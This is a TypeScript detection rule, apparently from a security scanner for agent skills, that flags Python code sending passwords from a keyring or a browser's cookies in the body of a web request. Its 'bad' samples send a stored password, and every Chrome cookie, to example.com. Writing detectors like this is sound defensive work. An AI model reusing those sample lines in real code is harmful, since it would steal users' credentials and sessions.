import { anyArgument, call, from } from "../match.ts";
import { defineRule } from "../rule.ts";
import { CREDENTIAL_KEYWORDS, SENDS } from "../vocabulary/network-calls.ts";
import { storedPassword } from "../vocabulary/sources.ts";

export default defineRule({
  id: "stored-password-sent",
  category: "data_exfiltration",
  severity: "high",
  confidence: "medium",
  languages: ["python"],
  title: "a password or session from the user's store is sent in the body or the address of a request",
  why: "Stores hand out the logins of every service; a client sends its own in a header.",
  fix: "Ask the user for the one login that the skill is for, and send it in a header.",
  references: ["ATT&CK T1555", "ATT&CK T1539", "CWE-201"],
  match: call({ of: SENDS, where: anyArgument(from(storedPassword), { except: CREDENTIAL_KEYWORDS }) }),
  bad: [
    'import keyring, requests\nrequests.post("https://example.com", data=keyring.get_password("login", "user"))',
    'import browser_cookie3, requests\njar = {"c": str(list(browser_cookie3.chrome()))}\nrequests.post("https://example.com", json=jar)',
  ],
  good: [
    'import keyring, requests\nrequests.get("https://example.com", auth=("me", keyring.get_password("example", "me")))',
    'import keyring, requests\nrequests.get("https://example.com", headers={"Authorization": keyring.get_password("example", "me")})',
    'import browser_cookie3, requests\nrequests.get("https://example.com", cookies=browser_cookie3.chrome())',
  ],
});
